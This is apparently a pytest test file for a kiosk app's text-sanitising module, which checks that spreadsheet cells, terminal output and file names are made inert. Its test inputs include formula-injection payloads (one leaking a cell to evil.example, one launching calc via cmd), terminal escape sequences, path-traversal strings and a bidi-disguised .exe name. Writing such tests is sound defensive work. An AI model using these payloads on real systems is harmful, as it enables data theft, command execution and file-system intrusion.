"""Text leaving SignDesk: inert spreadsheet cells, escaped terminal output, safe file names."""

from __future__ import annotations

import io
import json
import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.safetext import (
    TerminalGuard,
    cell_text,
    clean_text,
    has_control,
    safe_filename,
    terminal_text,
)


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1+1",
    "\x00=1+1", "\u200b=1+1", "\x1b@SUM(A1)", "\n-1",
])
def test_formula_triggers_get_a_leading_quote(text: str) -> None:
    out = cell_text(text)
    assert out.startswith("'")
    assert not has_control(out)


@pytest.mark.parametrize("text", ["王小明", "2026-11-28 08:30:00", "13800001234", "1号台", ""])
def test_ordinary_cells_are_unchanged(text: str) -> None:
    assert cell_text(text) == text


def test_control_characters_are_stripped_from_cells() -> None:
    assert cell_text("王\x07小\x00明") == "王小明"
    assert cell_text("第一\n支部") == "第一 支部"
    assert cell_text("\u202e明小王") == "明小王"  # a bidi override would show the name reversed
    assert cell_text("\ud800王") == "\ufffd王"  # a lone surrogate cannot be written at all
    assert cell_text(None) == ""


@given(st.text())
def test_any_text_becomes_an_inert_cell(text: str) -> None:
    out = cell_text(text)
    assert not has_control(out)
    assert out[:1] not in ("=", "+", "-", "@")
    out.encode("utf-8")  # always encodable


def test_terminal_text_shows_escapes_instead_of_running_them() -> None:
    shown = terminal_text("\x1b[2J\x1b[31m王\x9b1m\nfake line\r")
    assert "\x1b" not in shown and "\x9b" not in shown and "\n" not in shown
    assert shown == "\\u001b[2J\\u001b[31m王\\u009b1m\\u000afake line\\u000d"
    assert len(terminal_text("王" * 10_000)) == 200
    assert terminal_text("王" * 10_000).endswith("…")


def test_terminal_guard_keeps_json_valid_and_exact() -> None:
    buf = io.StringIO()
    guard = TerminalGuard(buf)
    value = {"name": "王\x9b31m\u202e", "desk": "1号台\x1b]0;title\x07"}
    guard.write(json.dumps(value, ensure_ascii=False) + "\n")
    out = buf.getvalue()
    assert "\x9b" not in out and "\x1b" not in out and "\u202e" not in out
    assert json.loads(out) == value
    guard.write("a\tb\n")
    assert buf.getvalue().endswith("a\tb\n")  # layout characters pass


@pytest.mark.parametrize("stem", [
    "支部" * 200, "../../etc/passwd", "..\\..\\windows", ".hidden", "CON", "nul", "com1",
    "lpt9", "a/b\\c:d*e?f\"g<h>i|j", "\x1b[31m红", "   ", "...", "名\u202egnp.exe",
    "😀" * 100, "a" * 1000,
])
def test_file_names_are_bounded_and_safe(stem: str) -> None:
    name = safe_filename(stem, ".png")
    assert name.endswith(".png")
    assert len(name.encode("utf-8")) <= 120
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    assert not has_control(name)
    assert name.split(".")[0].lower() not in {"con", "nul", "com1", "lpt9", "prn", "aux"}
    assert os.path.basename(name) == name


@given(st.text(), st.integers(min_value=10, max_value=255))
def test_any_text_makes_a_file_name_within_its_bound(stem: str, limit: int) -> None:
    name = safe_filename(stem, ".png", limit=limit)
    assert 5 <= len(name.encode("utf-8")) <= limit
    assert name not in (".png", "..png") and not name.startswith(".")
    assert "/" not in name and "\x00" not in name


def test_clean_text_leaves_ordinary_text_alone() -> None:
    for s in ("王小明", "阿卜杜拉·买买提", "𠀀", "a b"):
        assert clean_text(s) == s


@given(st.lists(st.one_of(st.text(), st.none()), max_size=20))
def test_a_row_is_neutralised_exactly_as_its_cells(row: list) -> None:
    from kiosk.safetext import cell_row

    assert cell_row(row) == [cell_text(c) for c in row]
